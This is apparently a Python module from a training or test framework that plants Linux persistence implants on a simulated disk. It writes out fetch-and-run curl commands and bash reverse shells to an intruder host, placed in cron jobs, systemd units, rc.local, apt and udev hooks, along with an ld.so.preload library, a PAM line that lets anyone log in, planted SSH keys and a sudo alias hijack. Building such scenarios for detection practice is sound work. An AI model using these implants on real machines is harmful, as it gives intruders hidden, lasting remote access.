"""What the intruder left so as to come back by itself."""

from __future__ import annotations

from typing import Final

from pratique.demo.accounts import WWW_DATA, public_key
from pratique.demo.days import NIGHT
from pratique.demo.implant import Implant, appended, together, written
from pratique.demo.implants.packages import LIBRARY
from pratique.demo.visitors import INTRUDER

_TO: Final = f"/dev/tcp/{INTRUDER}/443"
_FETCH: Final = f"curl -fsS http://{INTRUDER}/k | sh"
_UNITS: Final = "/etc/systemd/system"

_SERVICE: Final = """[Unit]
Description={title}

[Service]
ExecStart={command}
Restart=always

[Install]
WantedBy=multi-user.target
"""
_TIMER: Final = """[Unit]
Description=Refresh the message bus

[Timer]
OnBootSec=5min
OnUnitActiveSec=1h

[Install]
WantedBy=timers.target
"""
# As at(1) writes a job: the environment of whoever queued it, then the commands.
_AT_JOB: Final = f"""#!/bin/sh
# atrun uid=33 gid=33
# mail www-data 0
umask 22
HOME=/var/www; export HOME
cd /var/www || {{
\t echo 'Execution directory inaccessible' >&2
\t exit 1
}}
{_FETCH}
"""
_LINGERING: Final = "/var/www/.config/systemd/user/session.service"


def _service(title: str, command: str) -> str:
    return _SERVICE.format(title=title, command=command)


IMPLANTS: Final = (
    Implant(
        "/var/spool/cron/crontabs/www-data",
        "a job that fetches code every quarter of an hour",
        "persistence-cron-fetches-code",
        appended(
            "/var/spool/cron/crontabs/www-data", f"7,22,37,52 * * * * {_FETCH} >/dev/null 2>&1\n"
        ),
    ),
    Implant(
        "/etc/cron.d/php-clean",
        "a job that starts a program from a hidden folder",
        "persistence-cron-runs-from-writable",
        written(
            "/etc/cron.d/php-clean", "@reboot root /var/tmp/.cache/kworker -c /var/tmp/.cache/c\n"
        ),
    ),
    Implant(
        "/etc/cron.hourly/man-index",
        "a script that unpacks code and runs it",
        "persistence-cron-fetches-code",
        written(
            "/etc/cron.hourly/man-index",
            "#!/bin/sh\necho ZWNobyBub3RoaW5n | base64 -d | sh\n",
            0o755,
        ),
    ),
    Implant(
        f"{_UNITS}/dbus-refresh.service",
        "a service, with its timer, that connects back",
        "persistence-unit-runs-code",
        together(
            written(
                f"{_UNITS}/dbus-refresh.service",
                _service("Refresh the message bus", f"/bin/bash -c 'bash -i >& {_TO} 0>&1'"),
            ),
            written(f"{_UNITS}/dbus-refresh.timer", _TIMER),
            lambda disk: disk.link(
                f"{_UNITS}/timers.target.wants/dbus-refresh.timer",
                f"{_UNITS}/dbus-refresh.timer",
                time=NIGHT,
            ),
        ),
    ),
    Implant(
        f"{_UNITS}/systemd-agent.service",
        "a service whose program lies in memory",
        "persistence-unit-from-writable",
        written(f"{_UNITS}/systemd-agent.service", _service("Agent", "/dev/shm/.x/agent --quiet")),  # noqa: S108 - a name on the made-up disk
    ),
    Implant(
        f"{_UNITS}/nginx.service.d/override.conf",
        "an addition to the web server's service",
        "persistence-unit-runs-code",
        written(
            f"{_UNITS}/nginx.service.d/override.conf",
            f"[Service]\nExecStartPost=/bin/sh -c '{_FETCH}'\n",
        ),
    ),
    Implant(
        "/etc/ld.so.preload",
        "a library that every program loads",
        "persistence-linker-preload",
        written("/etc/ld.so.preload", f"{LIBRARY}\n"),
    ),
    Implant(
        "/etc/profile.d/zz-locale.sh",
        "a line that runs at every login",
        "persistence-startup-runs-code",
        written("/etc/profile.d/zz-locale.sh", f"export LC_TIME=C\n({_FETCH}) >/dev/null 2>&1 &\n"),
    ),
    Implant(
        "/etc/rc.local",
        "a line that runs at every start",
        "persistence-startup-runs-code",
        written(
            "/etc/rc.local",
            f"#!/bin/sh -e\nnohup bash -c 'bash -i >& {_TO} 0>&1' &\nexit 0\n",
            0o755,
        ),
    ),
    Implant(
        "/var/www/.ssh/authorized_keys",
        "a key for the web server's account",
        "persistence-authorized-key-system",
        written(
            "/var/www/.ssh/authorized_keys", f"{public_key('intruder')} k@host\n", 0o600, WWW_DATA
        ),
    ),
    Implant(
        "/root/.ssh/authorized_keys",
        "a key that starts a command of its own",
        "persistence-authorized-key-forced",
        appended(
            "/root/.ssh/authorized_keys",
            f'command="{_FETCH}; bash" {public_key("forced")} root@localhost\n',
        ),
    ),
    Implant(
        "/etc/apt/apt.conf.d/99-cache",
        "a command after every installation of a package",
        "persistence-apt-hook",
        written(
            "/etc/apt/apt.conf.d/99-cache",
            f'DPkg::Post-Invoke {{ "{_FETCH} >/dev/null 2>&1 || true"; }};\n',
        ),
    ),
    Implant(
        "/etc/udev/rules.d/75-persist.rules",
        "a command for every disk that is plugged in",
        "persistence-udev-runs-code",
        written(
            "/etc/udev/rules.d/75-persist.rules",
            'ACTION=="add", SUBSYSTEM=="block", RUN+="/bin/sh -c \'/var/tmp/.cache/kworker &\'"\n',
        ),
    ),
    Implant(
        "/var/spool/cron/atjobs/a0000101c5f2a1",
        "a job that runs once more, tomorrow",
        "persistence-at-job",
        written("/var/spool/cron/atjobs/a0000101c5f2a1", _AT_JOB, 0o700, WWW_DATA),
    ),
    Implant(
        "/etc/cron.d/php",
        "a shell of his own for the jobs of a package",
        "persistence-cron-variable",
        lambda disk: disk.prepend("/etc/cron.d/php", "SHELL=/var/tmp/.cache/kworker\n", NIGHT),
    ),
    Implant(
        "/etc/pam.d/sshd",
        "a line that lets everybody in, in a file that its package left beside it unchanged",
        "persistence-pam-opens-login",
        lambda disk: disk.prepend("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n", NIGHT),
    ),
    Implant(
        "/home/bruno/.bashrc",
        "another command in the place of sudo",
        "persistence-command-replaced",
        appended("/home/bruno/.bashrc", "alias sudo='/home/bruno/.cache/bash -p sudo'\n"),
    ),
    Implant(
        "/etc/systemd/system-generators/systemd-locale-generator",
        "a script that systemd runs before all else",
        "persistence-generator-unowned",
        written(
            "/etc/systemd/system-generators/systemd-locale-generator",
            # It ends in its second line: nobody calls it with that name.
            '#!/bin/sh\n[ "$1" = /nonexistent ] || exit 0\n'
            'printf "[Service]\\nExecStart=/usr/sbin/ntpsyncd\\n" >"$1/locale.service"\n',
            0o755,
        ),
    ),
    Implant(
        _LINGERING,
        "a unit of the web server's account, started without a login",
        "persistence-unit-from-writable",
        together(
            written(_LINGERING, _service("Session", "/usr/bin/php /var/www/.s"), owner=WWW_DATA),
            written("/var/lib/systemd/linger/www-data", ""),
        ),
        also=("persistence-user-unit-lingers",),
    ),
    Implant(
        "/usr/lib/games/.ssh/authorized_keys",
        "a key where it waits for an account",
        "persistence-authorized-key-outside-home",
        lambda disk: disk.file(
            "/usr/lib/games/.ssh/authorized_keys", f"{public_key('spare')} k@host\n", 0o600
        ),
    ),
)
